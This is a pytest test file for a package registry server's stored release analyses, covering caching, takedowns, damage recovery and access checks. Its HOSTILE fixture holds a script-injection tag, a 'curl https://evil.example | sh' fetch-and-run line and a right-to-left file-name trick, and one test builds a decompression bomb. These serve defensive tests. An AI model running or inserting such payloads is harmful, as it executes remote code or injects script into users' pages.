"""Stored analyses (design/server.md 5): an item's first view is cheap, and nothing stored outlives its inputs."""

from __future__ import annotations

import asyncio
import hashlib
import subprocess
import sys
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from click.testing import CliRunner

from registry_server.accounts import registry_keys as server_keys
from registry_server.api import worker
from registry_server.api.worker import Analyst, Released
from registry_server.cli.program import cli
from registry_server.pages import analysed, analysis_store, page_layout
from registry_server.pages.analysis_store import AnalysisStore, remove_taken_down
from registry_server.pages.limits import PAGES
from registry_server.pages.release_analysis import analyse
from registry_server.sequencer.ledger import Ledger
from registry_server.storage import database
from registry_server.storage.bounded_threads import BoundedThreads
from registry_server.storage.objects import Folder
from registry_server.upkeep import takedown
from rye.errors import RyeError
from rye.items.identity import Identity
from rye.registry.protocol.wire import blob_path
from tests.scenes.directive_text import directive
from tests.scenes.local_registry import LocalRegistry
from tests.scenes.publisher import Publisher
from tests.server.unexamined import put

HTML, JSON = {"Accept": "text/html"}, {"Accept": "application/json"}
HOSTILE = "# x\n\n<script>alert(1)</script> ![x](https://evil.example/x.png) curl https://evil.example | sh\n\n\u202egnp.exe\n"
SECRET = "# Title\n\nThe word xyzzy\n"


class Analysed:
    """A registry in which releases are analysed when the test says so. Analyses are counted."""

    def __init__(self, data: Path, patch: pytest.MonkeyPatch, settings: str = "", *, make: bool = True) -> None:
        self.local = LocalRegistry(data, settings, make=make)
        self.acme = Publisher("acme")
        if make:
            assert self.local.statements(self.local.token(), self.acme.claim()).status_code == 200
        self.analysed: list[str] = []

        def counted(record: Any, files: Any) -> Any:
            self.analysed.append(f"{record.identity.id}@{record.version}")
            return analyse(record, files)

        patch.setattr(analysed, "analyse", counted)

    @property
    def analyses(self) -> AnalysisStore:
        made = self.local.service.pages._analyses
        assert made is not None
        return made

    def put(self, name: str, data: str = "", version: str = "1.0.0", **changes: Any) -> Identity:
        """Append a release that no one examined."""
        identity = Identity("directive", f"acme/a/{name}")
        put(self.local, self.acme, identity, version, (data or directive(f"a/{name}", version)).encode(), **changes)
        self.local.service.pages.forget_head()
        return identity

    def analyse(self, *names: str, version: str = "1.0.0") -> None:
        """Analyse releases as an examiner does."""
        service = self.local.service
        analyst = Analyst(service.engine, service.public, self.analyses)
        analyst.analyse([Released("directive", f"acme/a/{name}", version) for name in names])

    def forget_pages(self) -> None:
        self.local.service.pages._kept.clear()
        self.analyses._recent.clear()
        self.analysed.clear()

    def page(self, name: str, form: dict[str, str] = HTML, token: str = "", status: int = 200) -> str:
        answer = self.local.get(f"/-/directive/acme/a/{name}", token, headers=form)
        assert answer.status_code == status, answer.text
        return answer.text

    def take_down(self, what: str) -> None:
        """Publish a takedown. What is stored is still there, as if the operator's program had been killed then."""
        service = self.local.service
        with database.reader(service.engine) as connection:
            plan = takedown.plan(Ledger(connection), what, "A court said so")
        owners = server_keys.in_folder(service.settings.keys, "root")
        takedown.publish(service.sequencer, takedown.signed(plan.statements, owners))
        service.pages.forget_head()

    def stored(self) -> dict[str, bytes]:
        """What is stored, by its path."""
        folder = self.local.service.settings.analyses
        return {path.relative_to(folder).as_posix(): path.read_bytes() for path in sorted(folder.glob("*/*"))}

    def change(self, content: bytes) -> None:
        """Put other bytes in the place of the one analysis."""
        ((path, _),) = self.stored().items()
        self.local.service.settings.analyses.joinpath(path).write_bytes(content)


@pytest.fixture
def registry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Analysed]:
    made = Analysed(tmp_path / "data", monkeypatch)
    yield made
    made.local.close()


class TestWhatIsStored:
    def test_a_page_nobody_saw_is_made_without_reading_the_release(self, registry: Analysed) -> None:
        registry.put("item")
        registry.analyse("item")
        assert registry.analysed == ["acme/a/item@1.0.0"]
        registry.forget_pages()
        read: list[str] = []
        registry.local.service.pages._store.get_all = lambda paths: read.extend(paths) or []  # type: ignore[method-assign, func-returns-value]
        assert "Clients refuse" in registry.page("item")  # the test's bytes are not signed
        assert (registry.analysed, read) == ([], [])

    @pytest.mark.parametrize("text", [HOSTILE, "", "# All\n\n" + "A paragraph & more.\n\n" * 2_000])
    def test_it_says_exactly_what_the_bytes_say(self, registry: Analysed, text: str) -> None:
        registry.put("item", text)
        made = registry.page("item"), registry.page("item", JSON)
        assert "<script>" not in made[0]
        registry.forget_pages()
        assert (registry.page("item"), registry.page("item", JSON)) == made
        assert registry.analysed == []

    def test_the_first_view_stores_what_no_examiner_did(self, registry: Analysed) -> None:
        """A release of an older version, or one that ``restore`` brought."""
        registry.put("item")
        registry.page("item")
        assert len(registry.stored()) == 1
        registry.analyse("item")
        assert registry.analysed == ["acme/a/item@1.0.0"]

    def test_it_outlives_the_server(self, registry: Analysed, monkeypatch: pytest.MonkeyPatch) -> None:
        registry.put("item")
        registry.analyse("item")
        again = Analysed(registry.local.data, monkeypatch, make=False)
        again.page("item")
        assert again.analysed == []
        again.local.close()

    def test_nothing_of_a_release_whose_bytes_are_missing(self, registry: Analysed) -> None:
        registry.put("item", "Sometimes there\n")
        registry.local.service.public.delete(blob_path(hashlib.sha256(b"Sometimes there\n").hexdigest()))
        registry.page("item")
        registry.analyse("item")
        assert registry.stored() == {}

    def test_the_file_of_an_older_version_is_deleted(self, tmp_path: Path) -> None:
        LocalRegistry(tmp_path / "data").close()
        former = tmp_path / "data" / "analyses.sqlite"
        former.write_bytes(b"SQLite format 3\0")
        with LocalRegistry(tmp_path / "data", make=False):
            assert not former.exists()


class TestOtherCode:
    def test_what_other_code_stored_is_replaced_and_not_used(self, registry: Analysed) -> None:
        registry.put("item")
        registry.analyse("item")
        before = registry.stored()
        registry.analyses._code = b"another version"
        registry.forget_pages()
        registry.page("item")
        assert registry.analysed == ["acme/a/item@1.0.0"]
        after = registry.stored()
        assert after.keys() == before.keys()
        assert after != before

    def test_the_code_s_identity_has_the_pages_and_the_readers(
        self, registry: Analysed, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        registry.put("item")

        def stored(readers: bytes, pages: str) -> bytes:
            monkeypatch.setattr(analysis_store, "running_code", lambda: readers)
            monkeypatch.setattr(page_layout, "version", lambda: pages)
            registry.analyses._code = None
            registry.forget_pages()
            registry.analyse("item")
            assert registry.analysed == ["acme/a/item@1.0.0"]
            (value,) = registry.stored().values()
            return value

        assert len({stored(b"a", "a"), stored(b"b", "a"), stored(b"a", "b")}) == 3


class TestTakedown:
    def test_the_operators_command_removes_it(self, registry: Analysed) -> None:
        identity = registry.put("item", SECRET)
        registry.put("other")
        registry.analyse("item", "other")
        before = registry.stored()
        assert len(before) == 2
        data = str(registry.local.data)
        done = CliRunner().invoke(cli, ["takedown", f"{identity}@1.0.0", "--reason", "No", "--data", data])
        assert done.exit_code == 0, done.output
        after = registry.stored()
        assert len(after) == 1
        assert after.items() <= before.items()

    def test_a_text_is_gone_from_its_page_before_its_analysis_is_removed(self, registry: Analysed) -> None:
        identity = registry.put("item", SECRET)
        registry.analyse("item")
        registry.take_down(f"{identity}@1.0.0")
        assert len(registry.stored()) == 1
        assert "xyzzy" not in registry.page("item", status=451)
        assert registry.stored() == {}
        assert not registry.analyses._recent._values

    def test_a_start_removes_what_a_killed_command_left(self, registry: Analysed) -> None:
        identity = registry.put("item", SECRET)
        registry.put("other")
        registry.analyse("item", "other")
        registry.take_down(f"{identity}@1.0.0")
        remove_taken_down(registry.local.service.engine, registry.local.service.analysed)
        assert len(registry.stored()) == 1
        registry.analyse("item")
        assert len(registry.stored()) == 1

    def test_an_analysis_that_a_takedown_overtakes_is_removed_by_its_writer(
        self, registry: Analysed, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        identity = registry.put("item", SECRET)
        written: list[str] = []
        put_soon = Folder.put_soon

        def late(self: Folder, path: str, content: bytes) -> None:
            if self.root.name == "analyses":
                registry.take_down(f"{identity}@1.0.0")
                written.append(path)
            put_soon(self, path, content)

        monkeypatch.setattr(Folder, "put_soon", late)
        assert "xyzzy" in registry.page("item")  # its transaction began before the takedown
        assert (len(written), registry.stored()) == (1, {})
        assert "xyzzy" not in registry.page("item", status=451)

    def test_the_same_bytes_under_another_name_go_too(self, registry: Analysed) -> None:
        for name in ("item", "copy"):
            registry.put(name, SECRET)
        registry.analyse("item", "copy")
        registry.take_down(hashlib.sha256(SECRET.encode()).hexdigest())
        assert "xyzzy" not in registry.page("copy", status=451)
        remove_taken_down(registry.local.service.engine, registry.local.service.analysed)
        assert registry.stored() == {}

    def test_a_release_of_one_shared_file_that_is_gone_is_not_shown_from_the_store(self, registry: Analysed) -> None:
        identity = registry.put("item", SECRET)
        registry.analyse("item")
        sha256 = hashlib.sha256(SECRET.encode()).hexdigest()
        with database.writer(registry.local.service.engine) as connection:
            # as if a statement about another release referred to it
            row = (sha256, 1, "directive:acme/a/other", "1.0.0", "No")
            connection.exec_driver_sql(
                "INSERT INTO takedowns (sha256, position, name, version, reason) VALUES (?, ?, ?, ?, ?)", row
            )
        registry.forget_pages()
        assert "xyzzy" not in registry.page("item")
        assert identity.id in registry.page("item")
        assert registry.stored() == {}


class TestDamage:
    @pytest.mark.parametrize("content", [b"", b"x", b"x" * 32, b"x" * 5_000])
    def test_a_damaged_one_is_made_again(self, registry: Analysed, content: bytes) -> None:
        registry.put("item")
        made = registry.page("item")
        whole = registry.stored()
        registry.change(content)
        registry.forget_pages()
        assert registry.page("item") == made
        assert registry.analysed == ["acme/a/item@1.0.0"]
        assert registry.stored() == whole

    @pytest.mark.parametrize("most", [0, 20, 40, 400])
    def test_a_torn_one_is_made_again(self, registry: Analysed, most: int) -> None:
        registry.put("item")
        registry.analyse("item")
        ((_, whole),) = registry.stored().items()
        registry.change(whole[:most])
        registry.forget_pages()
        registry.page("item")
        assert registry.analysed == ["acme/a/item@1.0.0"]

    def test_that_of_another_release_is_none(self, registry: Analysed) -> None:
        for name in ("item", "other"):
            registry.put(name)
        registry.analyse("other")
        ((_, other),) = registry.stored().items()
        registry.analyse("item")
        folder = registry.local.service.settings.analyses
        for path in registry.stored():
            folder.joinpath(path).write_bytes(other)
        registry.forget_pages()
        assert "a/item" in registry.page("item")
        assert registry.analysed == ["acme/a/item@1.0.0"]

    def test_one_that_unpacks_to_more_than_an_analysis_may_have_is_none(self, registry: Analysed) -> None:
        registry.put("item")
        registry.analyse("item")
        bomb = zlib.compress(b"\x00" * (PAGES.analysis_bytes + 1))
        with database.reader(registry.local.service.engine) as connection:
            ((leaf,),) = connection.exec_driver_sql(
                "SELECT leaf FROM log_entries JOIN releases USING (position) WHERE name = 'directive:acme/a/item'"
            ).fetchall()
            link = Ledger(connection).chain("acme").links[0]
        record: Any = type("Record", (), {"link": link, "line": type("Line", (), {"note": bytes(leaf).decode()})})
        registry.change(registry.analyses._digest(record, bomb) + bomb)
        registry.forget_pages()
        registry.page("item")
        assert registry.analysed == ["acme/a/item@1.0.0"]

    def test_without_a_usable_store_pages_are_made_each_time(
        self, registry: Analysed, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def refused(*_: object) -> bytes:
            raise RyeError("storage-full", "The disk is full.", None)

        registry.put("item")
        analysed = registry.local.service.analysed
        for name in ("get", "put_soon"):
            monkeypatch.setattr(analysed, name, refused)
        assert "acme" in registry.page("item")
        registry.local.service.pages._kept.clear()
        registry.analysed.clear()
        registry.page("item")
        assert registry.analysed == []  # it is still in memory
        registry.forget_pages()
        registry.page("item")
        assert registry.analysed == ["acme/a/item@1.0.0"]

    def test_it_is_the_operator_s_own(self, registry: Analysed) -> None:
        registry.put("item")
        registry.analyse("item")
        assert registry.local.service.settings.analyses.stat().st_mode & 0o777 == 0o700


class TestPublishing:
    def test_a_publish_analyses_what_it_appended_and_waits_for_none_of_it(
        self, registry: Analysed, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        token = registry.local.token()
        asked: list[Released] = []
        with monkeypatch.context() as patch:
            patch.setattr(Analyst, "analyse", lambda _self, released: asked.extend(released))
            assert registry.local.publish(registry.acme, "a/item", token).status_code == 200
            until(lambda: len(asked) == 1)
        assert asked == [Released("directive", "acme/a/item", "1.0.0")]
        assert registry.stored() == {}
        assert registry.local.publish(registry.acme, "a/other", token).status_code == 200
        until(lambda: len(registry.stored()) == 1)
        registry.local.service.pages.forget_head()
        assert registry.analysed == ["acme/a/other@1.0.0"]
        registry.page("other")
        assert registry.analysed == ["acme/a/other@1.0.0"]

    def test_nothing_that_the_log_refused_is_stored(self, registry: Analysed) -> None:
        token = registry.local.token()
        assert registry.local.publish(registry.acme, "a/item", token).status_code == 200
        until(lambda: len(registry.stored()) == 1)
        data = registry.acme.file("a/item", text="Other bytes under the same version")
        release = registry.acme.release("a/item", data)
        registry.local.blob(data, token)
        assert registry.local.statements(token, registry.acme.note(release)).status_code == 409
        assert len(registry.stored()) == 1

    def test_under_load_it_is_left_to_the_first_view(self, registry: Analysed, monkeypatch: pytest.MonkeyPatch) -> None:
        asked: list[Released] = []

        def slowly(_self: Analyst, released: list[Released]) -> None:
            asked.extend(released)
            time.sleep(0.2)

        monkeypatch.setattr(Analyst, "analyse", slowly)
        here = registry.local.service.examiners
        here._analysing = BoundedThreads("test", 1, 2, "Too many.")
        for number in range(10):
            here.analyse([Released("directive", "acme/a/item", f"{number}.0.0")])
        here._analysing._pool.shutdown(wait=True)
        assert [release.version for release in asked] == ["0.0.0", "1.0.0", "2.0.0"]

    def test_it_waits_while_something_is_published(self, registry: Analysed) -> None:
        token, service = registry.local.token(), registry.local.service
        service._writing += 1
        assert registry.local.publish(registry.acme, "a/item", token).status_code == 200
        time.sleep(2 * worker.QUIET_SECONDS)
        assert registry.analysed == []
        service._writing -= 1
        until(lambda: len(registry.stored()) == 1)

    def test_one_quiet_moment_is_enough_for_many(self, registry: Analysed, monkeypatch: pytest.MonkeyPatch) -> None:
        """Nobody was waiting since the last of them, so none of the others waits again."""
        service, clock, slept = registry.local.service, [100.0], [0.0]

        def sleep(seconds: float) -> None:
            clock[0] += seconds
            slept[0] += seconds

        monkeypatch.setattr(worker, "time", SimpleNamespace(monotonic=lambda: clock[0], sleep=sleep))
        analyst = Analyst(service.engine, service.public, registry.analyses, lambda: False)
        analyst.analyse([Released("directive", "acme/a/none", f"1.0.{number}") for number in range(50)])
        assert worker.QUIET_SECONDS <= slept[0] < 2 * worker.QUIET_SECONDS

    @pytest.mark.processes
    def test_when_the_worker_is_gone_the_server_analyses(self, registry: Analysed) -> None:
        registry.put("item")
        here, loop = registry.local.service.examiners, registry.local.loop
        here._most = 1

        async def worked() -> None:
            await here._start()
            (only,) = here._workers
            here.analyse([Released("directive", "acme/a/item", "1.0.0")])
            await only.end()
            while not registry.stored():
                await asyncio.sleep(0.01)

        loop.run_until_complete(asyncio.wait_for(worked(), 60))
        assert len(registry.stored()) == 1

    @pytest.mark.thorough
    @pytest.mark.processes
    def test_a_worker_analyses_too(self, registry: Analysed) -> None:
        registry.put("item")
        here, loop = registry.local.service.examiners, registry.local.loop
        here._most = 1

        async def worked() -> None:
            await here._start()
            (only,) = here._workers
            here.analyse([Released("directive", "acme/a/item", "1.0.0"), Released("directive", "acme/a/no", "1.0.0")])
            while only.waiting or not registry.stored():
                await asyncio.sleep(0.01)

        loop.run_until_complete(asyncio.wait_for(worked(), 60))
        assert len(registry.stored()) == 1
        registry.page("item")
        assert registry.analysed == []


def until(is_so: Any) -> None:
    """Wait until it is so."""
    end = time.monotonic() + 20
    while not is_so():
        assert time.monotonic() < end
        time.sleep(0.01)


def test_a_stored_analysis_is_shown_to_nobody_who_may_not_read_the_item(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    registry = Analysed(tmp_path / "data", monkeypatch, 'read = "namespaces"\n')
    registry.put("item", SECRET)
    registry.analyse("item")
    assert len(registry.stored()) == 1
    mine, other = (registry.local.token(name, scopes=["read"]) for name in ("acme", "other"))
    assert "xyzzy" in registry.page("item", token=mine)
    assert "xyzzy" not in registry.page("item", token=other, status=404)
    assert "xyzzy" not in registry.page("item", JSON, token=other, status=404)
    assert registry.analysed == ["acme/a/item@1.0.0"]
    (path,) = registry.stored()
    for place in (f"/analyses/{path}", f"/{path}"):
        assert registry.local.get(place, mine).status_code == 404
    registry.local.close()


@pytest.mark.thorough
@pytest.mark.processes
def test_many_threads_may_read_the_first_analysis_together() -> None:
    """msgspec crashes when threads create a type's first decoder at the same moment, as the first views after a start do."""
    done = subprocess.run(
        [sys.executable, "-c", _FIRST_READS], capture_output=True, text=True, check=False, timeout=120
    )
    assert (done.returncode, done.stderr) == (0, "")


_FIRST_READS = """
import os, sys, threading
from registry_server.pages.release_analysis import Analysis, Parts, decode, encode
from registry_server.pages.page_budget import Rows
from registry_server.pages.may_do import MayDo
from registry_server.pages.markdown import Text
from rye.describing.description import Description
none = Rows()
lists = dict.fromkeys(("rights", "agent_tools", "hooks", "runs", "facts", "unread"), none)
may = MayDo(tier=None, agent_limits=(), problem=None, **lists)
data, _ = encode(Analysis(may, None, Description(declared=None), "", None, Parts("", "", "", Text(()))))
sys.setswitchinterval(1e-5)

def read(barrier):
    barrier.wait()
    decode(data)

for _ in range(30):
    child = os.fork()
    if not child:
        barrier = threading.Barrier(6)
        threads = [threading.Thread(target=read, args=(barrier,)) for _ in range(6)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        os._exit(0)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status:
        sys.exit(f"a process ended with {status}")
"""
